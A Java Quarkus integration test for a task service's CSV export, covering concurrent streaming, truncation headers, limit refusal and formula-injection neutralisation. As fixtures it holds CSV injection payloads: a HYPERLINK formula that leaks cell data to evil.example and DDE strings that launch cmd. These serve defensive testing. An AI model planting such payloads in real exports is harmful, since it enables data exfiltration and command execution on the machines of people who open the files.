@@ -1,0 +1,251 @@
+package vn.ntm.task.worklist;
+
+import io.agroal.api.AgroalDataSource;
+import io.quarkus.test.common.http.TestHTTPResource;
+import io.quarkus.test.junit.QuarkusTest;
+import jakarta.inject.Inject;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestInstance;
+import vn.ntm.task.Auth;
+import vn.ntm.task.BulkTasks;
+
+import java.io.IOException;
+import java.io.InputStream;
+import java.net.URI;
+import java.net.URL;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.UUID;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.atomic.AtomicInteger;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.hamcrest.Matchers.containsString;
+import static org.hamcrest.Matchers.equalTo;
+import static org.hamcrest.Matchers.hasItem;
+import static vn.ntm.task.Auth.as;
+import static vn.ntm.task.Auth.asAdmin;
+
+/**
+ * The CSV export streams from the database: 20 exports of a large table at once each get every row they should,
+ * within the test JVM's default heap, while the service keeps answering; the headers say when the row limit cut
+ * the file; cells a spreadsheet would run as formulas are neutralised. The table holds
+ * {@code ntm.test.export-rows} tasks (200 000 by default; {@code -Pexport-million} makes it 1 000 000).
+ */
+@QuarkusTest
+@TestInstance(TestInstance.Lifecycle.PER_CLASS)
+class TaskExportTest {
+    private static final String PROBLEM = "application/problem+json";
+    private static final int ROWS = Integer.getInteger("ntm.test.export-rows", 200_000);
+    private static final int LIMIT = 50_000;
+    private static final String PROVINCE = "97";
+
+    @Inject
+    AgroalDataSource ds;
+
+    @TestHTTPResource("/tasks/export.csv")
+    URL export;
+
+    @TestHTTPResource("/tasks")
+    URL list;
+
+    private UUID bulk;
+
+    @BeforeAll
+    void fill() {
+        bulk = BulkTasks.insert(ds, PROVINCE, ROWS);
+    }
+
+    @AfterAll
+    void clean() {
+        BulkTasks.delete(ds, bulk);
+    }
+
+    @Test
+    void twentyConcurrentExportsOfALargeTableEachStreamTheirRowsAndTheServiceStaysHealthy() throws Exception {
+        HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(30)).build();
+        String viewer = Auth.viewer(PROVINCE);
+        List<CompletableFuture<Export>> exports = new ArrayList<>();
+        for (int i = 0; i < 20; i++) {
+            exports.add(client.sendAsync(HttpRequest.newBuilder(export.toURI()).timeout(Duration.ofMinutes(10))
+                            .header("Authorization", viewer).GET().build(), HttpResponse.BodyHandlers.ofInputStream())
+                    .thenApplyAsync(TaskExportTest::read));
+        }
+        // other callers are served meanwhile
+        AtomicInteger served = new AtomicInteger();
+        while (!CompletableFuture.allOf(exports.toArray(CompletableFuture[]::new)).isDone()) {
+            HttpResponse<String> page = client.send(HttpRequest.newBuilder(URI.create(list + "?size=1"))
+                    .timeout(Duration.ofSeconds(60)).header("Authorization", Auth.admin()).GET().build(),
+                    HttpResponse.BodyHandlers.ofString());
+            assertThat(page.statusCode()).as(page.body()).isEqualTo(200);
+            served.incrementAndGet();
+            Thread.sleep(200);
+        }
+        for (CompletableFuture<Export> f : exports) {
+            Export e = f.get();
+            assertThat(e.status()).isEqualTo(200);
+            assertThat(e.lines()).as("header + rows").isEqualTo(LIMIT + 1);
+            assertThat(e.header("X-Truncated")).isEqualTo("true");
+            assertThat(e.header("X-Total-Count")).isEqualTo(Integer.toString(ROWS));
+            assertThat(e.header("X-Export-Limit")).isEqualTo(Integer.toString(LIMIT));
+            // streamed: the length was not known when the response started
+            assertThat(e.header("Content-Length")).isNull();
+            assertThat(e.firstLine()).startsWith("\uFEFFMã nhiệm vụ,Mã cuộc kiểm tra,");
+        }
+        assertThat(served.get()).isPositive();
+        asAdmin().when().get("/q/health/ready").then().statusCode(200).body("status", equalTo("UP"));
+    }
+
+    @Test
+    void anExportWithinTheLimitSaysItIsComplete() throws Exception {
+        long expected = BulkTasks.count(ds, "select count(*) from task where province_code = ? and status = 'OPEN'"
+                + " and criterion = 3", PROVINCE);
+        HttpResponse<InputStream> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
+                        URI.create(export + "?status=OPEN&criterion=3")).header("Authorization", Auth.viewer(PROVINCE))
+                .GET().build(), HttpResponse.BodyHandlers.ofInputStream());
+        Export e = read(response);
+        assertThat(e.status()).isEqualTo(200);
+        assertThat(e.header("X-Truncated")).isEqualTo("false");
+        assertThat(e.header("X-Total-Count")).isEqualTo(Long.toString(expected));
+        assertThat(e.lines()).isEqualTo(expected + 1);
+    }
+
+    @Test
+    void refusesAnExportOverTheLimitWhenAskedToAndNamesTheLimit() {
+        as(Auth.viewer(PROVINCE)).queryParam("onLimit", "refuse").when().get("/tasks/export.csv")
+                .then().statusCode(422).contentType(PROBLEM)
+                .body("title", equalTo("Dữ liệu xuất quá lớn"))
+                .body("detail", containsString("Có " + ROWS + " nhiệm vụ phù hợp"))
+                .body("detail", containsString("giới hạn xuất " + LIMIT + " dòng"))
+                .body("errors.field", hasItem("onLimit"));
+        as(Auth.viewer(PROVINCE)).queryParam("onLimit", "sometimes").when().get("/tasks/export.csv")
+                .then().statusCode(400).contentType(PROBLEM).body("errors.field", hasItem("onLimit"));
+        // within the limit, refuse changes nothing
+        as(Auth.viewer(PROVINCE)).queryParam("onLimit", "refuse").queryParam("criterion", 3)
+                .queryParam("status", "OPEN").when().get("/tasks/export.csv")
+                .then().statusCode(200).header("X-Truncated", "false");
+    }
+
+    @Test
+    void neutralisesCellsThatASpreadsheetWouldRunAsFormulas() {
+        UUID inspectionId = UUID.randomUUID();
+        Map<String, String> titles = new java.util.LinkedHashMap<>();
+        titles.put("a", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")");
+        titles.put("b", "+84 912 345 678");
+        titles.put("c", "-2+3+cmd|' /C calc'!A0");
+        titles.put("d", "@SUM(1+1)*cmd|' /C calc'!A0");
+        titles.put("e", "\tTab đầu dòng");
+        titles.put("f", "\rVề đầu dòng");
+        titles.put("g", "Hoàn thành tiêu chí số 17 (Môi trường), xã Thượng Cường");
+        titles.forEach((ref, title) -> BulkTasks.execute(ds, "insert into task (id, inspection_id, rule_code,"
+                + " source_ref, commune_code, commune_name, province_code, criterion, criterion_name, assignee_type,"
+                + " assignee_code, assignee_name, title, due_date, status, created_at, updated_at) values"
+                + " (gen_random_uuid(), ?, 'CSV', ?, '06490', ?, '20', 17, 'Môi trường', 'UBND_XA', '06490',"
+                + " '=1+1', ?, date '2090-12-31', 'OPEN', now(), now())", inspectionId, ref,
+                ref.equals("a") ? "=cmd|' /C calc'!A0" : "Thượng Cường", title));
+        try {
+            byte[] body = asAdmin().queryParam("inspectionId", inspectionId).queryParam("sort", "title")
+                    .queryParam("format", "machine").when().get("/tasks/export.csv").then().statusCode(200).extract().asByteArray();
+            List<List<String>> rows = parse(new String(body, StandardCharsets.UTF_8).substring(1));
+            assertThat(rows).hasSize(titles.size() + 1);
+            List<String> header = rows.get(0);
+            int title = header.indexOf("title");
+            int commune = header.indexOf("communeName");
+            int assignee = header.indexOf("assigneeName");
+            List<String> exported = rows.subList(1, rows.size()).stream().map(r -> r.get(title)).toList();
+            assertThat(exported).containsExactlyInAnyOrder(
+                    "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")",
+                    "'+84 912 345 678",
+                    "'-2+3+cmd|' /C calc'!A0",
+                    "'@SUM(1+1)*cmd|' /C calc'!A0",
+                    "'\tTab đầu dòng",
+                    "'\rVề đầu dòng",
+                    "Hoàn thành tiêu chí số 17 (Môi trường), xã Thượng Cường");
+            assertThat(rows.subList(1, rows.size())).allSatisfy(r -> {
+                assertThat(r.get(assignee)).isEqualTo("'=1+1");
+                assertThat(r.get(commune)).isIn("'=cmd|' /C calc'!A0", "Thượng Cường");
+            });
+            // no cell of the file starts a formula
+            assertThat(rows).allSatisfy(r -> assertThat(r).allSatisfy(cell ->
+                    assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
+                            .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r")));
+        } finally {
+            BulkTasks.delete(ds, inspectionId);
+        }
+    }
+
+    private record Export(int status, Map<String, List<String>> headers, long lines, String firstLine) {
+        String header(String name) {
+            return headers.entrySet().stream().filter(h -> h.getKey().equalsIgnoreCase(name))
+                    .map(h -> h.getValue().get(0)).findFirst().orElse(null);
+        }
+    }
+
+    /** Counts the lines as they arrive, keeping only the first: the test JVM holds no export in memory. */
+    private static Export read(HttpResponse<InputStream> response) {
+        try (InputStream in = response.body()) {
+            byte[] buffer = new byte[64 * 1024];
+            long lines = 0;
+            StringBuilder first = new StringBuilder();
+            java.io.ByteArrayOutputStream firstBytes = new java.io.ByteArrayOutputStream();
+            boolean inFirst = true;
+            for (int n; (n = in.read(buffer)) > 0; ) {
+                for (int i = 0; i < n; i++) {
+                    if (buffer[i] == '\n') {
+                        lines++;
+                        inFirst = false;
+                    } else if (inFirst) {
+                        firstBytes.write(buffer[i]);
+                    }
+                }
+            }
+            first.append(firstBytes.toString(StandardCharsets.UTF_8).strip());
+            return new Export(response.statusCode(), response.headers().map(), lines, first.toString());
+        } catch (IOException e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    /** RFC 4180: fields separated by commas, records by CRLF, quoted fields may hold both; quotes doubled. */
+    static List<List<String>> parse(String csv) {
+        List<List<String>> rows = new ArrayList<>();
+        List<String> row = new ArrayList<>();
+        StringBuilder field = new StringBuilder();
+        boolean quoted = false;
+        for (int i = 0; i < csv.length(); i++) {
+            char c = csv.charAt(i);
+            if (quoted) {
+                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
+                    field.append('"');
+                    i++;
+                } else if (c == '"') {
+                    quoted = false;
+                } else {
+                    field.append(c);
+                }
+            } else if (c == '"') {
+                quoted = true;
+            } else if (c == ',') {
+                row.add(field.toString());
+                field.setLength(0);
+            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
+                row.add(field.toString());
+                field.setLength(0);
+                rows.add(row);
+                row = new ArrayList<>();
+                i++;
+            } else {
+                field.append(c);
+            }
+        }
+        return rows;
+    }
+}
